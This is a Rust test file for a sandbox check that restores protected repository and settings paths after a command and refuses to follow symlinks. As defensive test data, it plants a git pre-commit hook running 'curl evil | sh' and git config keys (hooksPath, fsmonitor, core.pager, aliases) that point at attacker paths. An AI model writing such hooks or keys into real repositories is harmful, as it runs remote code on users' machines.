//! The check after a command, on real directories: new protected paths
//! go, changes are put back from a full snapshot, links are never
//! followed, and a new repository is kept only when harmless.

use super::*;

fn dir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!(
        "tern-protect-{name}-{}-{}",
        std::process::id(),
        fastrand::u64(..)
    ));
    std::fs::create_dir_all(&d).unwrap();
    std::fs::canonicalize(d).unwrap()
}

/// openat2(2) is how the check opens directories without following links;
/// qemu-user 7 (the aarch64 and armv7 suites) does not implement it, and
/// the sandbox refuses to run there anyway. Says so and tells the test to
/// stop.
fn no_openat2(test: &str) -> bool {
    match crate::sandbox::fsat::open_dir_strict(Path::new("/")) {
        Err(e) if e.raw_os_error() == Some(libc::ENOSYS) => {
            eprintln!("SKIPPED {test}: this kernel (or emulator) has no openat2");
            true
        }
        _ => false,
    }
}

fn plan_for(w: &Path) -> Plan {
    plan(&[w.to_path_buf()], &[w.to_path_buf()], &[], None, None)
}

#[test]
fn changes_are_undone_and_reported() {
    if no_openat2("changes_are_undone_and_reported") {
        return;
    }
    let d = dir("undo");
    std::fs::create_dir_all(d.join(".git/hooks")).unwrap();
    std::fs::write(d.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(d.join(".git/hooks/pre-push.sample"), "sample").unwrap();
    std::fs::write(d.join(".git/config"), "[core]\n").unwrap();
    let p = plan_for(&d);
    assert!(p.read_only.contains(&d.join(".git/hooks")));
    assert!(p.read_only.contains(&d.join(".git/config")));
    assert!(p.pins.contains(&d) && p.pins.contains(&d.join(".git")));
    let snap = take(&p, true);
    std::fs::write(d.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
    std::fs::write(d.join(".git/config"), "[core]\n\thooksPath = /tmp/evil\n").unwrap();
    std::fs::remove_file(d.join(".git/hooks/pre-push.sample")).unwrap();
    std::fs::write(d.join(".git/commondir"), "/tmp/evil").unwrap();
    std::fs::create_dir_all(d.join(".claude")).unwrap();
    std::fs::write(d.join(".claude/settings.json"), "{}").unwrap();
    std::fs::write(d.join("ordinary.txt"), "not protected").unwrap();
    let report = snap.verify();
    assert!(report.refused.is_empty(), "{report:?}");
    assert_eq!(report.undone.len(), 4, "{report:?}");
    assert!(!d.join(".git/hooks/pre-commit").exists());
    assert!(!d.join(".git/commondir").exists());
    assert!(!d.join(".claude").exists());
    assert_eq!(
        std::fs::read_to_string(d.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(
        std::fs::read_to_string(d.join(".git/hooks/pre-push.sample")).unwrap(),
        "sample"
    );
    assert!(d.join("ordinary.txt").exists());
    assert!(
        snap.verify().is_empty(),
        "a second pass finds nothing to do"
    );
}

/// Regression: with `.git` replaced by a symlink, the old restore
/// followed it and deleted and wrote files outside the working directory.
#[test]
fn a_git_dir_replaced_by_a_symlink_is_not_followed() {
    if no_openat2("a_git_dir_replaced_by_a_symlink_is_not_followed") {
        return;
    }
    let d = dir("gitlink");
    let outside = dir("gitlink-outside");
    std::fs::create_dir_all(d.join(".git/hooks")).unwrap();
    std::fs::write(d.join(".git/config"), "[core]\n").unwrap();
    std::fs::create_dir_all(outside.join("hooks")).unwrap();
    std::fs::write(outside.join("hooks/keep"), "outside file").unwrap();
    std::fs::write(outside.join("config"), "outside config").unwrap();
    let snap = take(&plan_for(&d), true);
    std::fs::rename(d.join(".git"), d.join("git-moved")).unwrap();
    std::os::unix::fs::symlink(&outside, d.join(".git")).unwrap();
    let report = snap.verify();
    assert_eq!(
        std::fs::read_to_string(outside.join("hooks/keep")).unwrap(),
        "outside file"
    );
    assert_eq!(
        std::fs::read_to_string(outside.join("config")).unwrap(),
        "outside config"
    );
    assert!(!report.refused.is_empty(), "the model is told: {report:?}");
}

#[test]
fn a_new_repository_is_kept_when_harmless() {
    if no_openat2("a_new_repository_is_kept_when_harmless") {
        return;
    }
    let d = dir("newgit");
    let snap = take(&plan_for(&d), false);
    let git = |args: &[&str]| {
        let ok = std::process::Command::new("git")
            .args(args)
            .current_dir(&d)
            .output()
            .map(|o| o.status.success());
        ok.unwrap_or(false)
    };
    if !git(&["init", "-q"]) {
        return; // no git here; the planted case below still runs
    }
    assert!(snap.verify().is_empty(), "git init is harmless");
    assert!(d.join(".git/config").exists());
    // Planted: a hook and a config that runs programs.
    let d2 = dir("newgit-evil");
    let snap = take(&plan_for(&d2), false);
    std::fs::create_dir_all(d2.join(".git/hooks")).unwrap();
    std::fs::write(d2.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(d2.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
    std::fs::write(d2.join(".git/hooks/pre-commit.sample"), "sample").unwrap();
    std::fs::write(
        d2.join(".git/config"),
        "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = /tmp/evil\n",
    )
    .unwrap();
    let report = snap.verify();
    assert!(!d2.join(".git/hooks/pre-commit").exists(), "{report:?}");
    assert!(d2.join(".git/hooks/pre-commit.sample").exists());
    assert!(!d2.join(".git/config").exists(), "{report:?}");
    assert!(
        report.undone.iter().any(|u| u.contains("core.fsmonitor")),
        "{report:?}"
    );
}

#[test]
fn git_config_keys_are_an_allow_list() {
    assert_eq!(
        unsafe_git_key("[core]\n\tbare = false\n[remote \"origin\"]\n\turl = x\n\tfetch = y\n"),
        None
    );
    assert_eq!(
        unsafe_git_key("[core]\n\tpager = evil\n").as_deref(),
        Some("core.pager")
    );
    assert_eq!(
        unsafe_git_key("[include]\n\tpath = /tmp/x\n").as_deref(),
        Some("include.path")
    );
    assert_eq!(
        unsafe_git_key("[alias] x = !sh\n").as_deref(),
        Some("alias.x")
    );
    assert_eq!(
        unsafe_git_key("[filter \"lfs\"]\n\tprocess = evil\n").as_deref(),
        Some("filter.*.process")
    );
}

#[test]
fn without_a_copy_changes_are_reported_not_guessed() {
    if no_openat2("without_a_copy_changes_are_reported_not_guessed") {
        return;
    }
    let d = dir("light");
    std::fs::create_dir_all(d.join(".tern")).unwrap();
    std::fs::write(d.join(".tern/settings.json"), "{}").unwrap();
    let snap = take(&plan_for(&d), false);
    std::fs::remove_dir_all(d.join(".tern")).unwrap();
    std::fs::create_dir_all(d.join(".tern")).unwrap();
    std::fs::write(d.join(".tern/settings.json"), "{\"hooks\":1}").unwrap();
    let report = snap.verify();
    assert!(report.undone.is_empty());
    assert_eq!(report.refused.len(), 1, "{report:?}");
}

#[test]
fn hook_files_and_path_dirs_are_protected_but_never_a_working_directory() {
    let d = dir("extra");
    std::fs::create_dir_all(d.join("bin")).unwrap();
    std::fs::write(d.join("check.sh"), "exit 0").unwrap();
    let path = std::env::join_paths([d.join("bin"), d.clone(), PathBuf::from("/usr/bin")]).unwrap();
    let p = plan(
        std::slice::from_ref(&d),
        std::slice::from_ref(&d),
        &[d.join("check.sh"), d.clone()],
        None,
        Some(&path),
    );
    assert!(p.read_only.contains(&d.join("bin")), "{p:?}");
    assert!(p.read_only.contains(&d.join("check.sh")), "{p:?}");
    assert!(!p.read_only.contains(&d), "{p:?}");
}
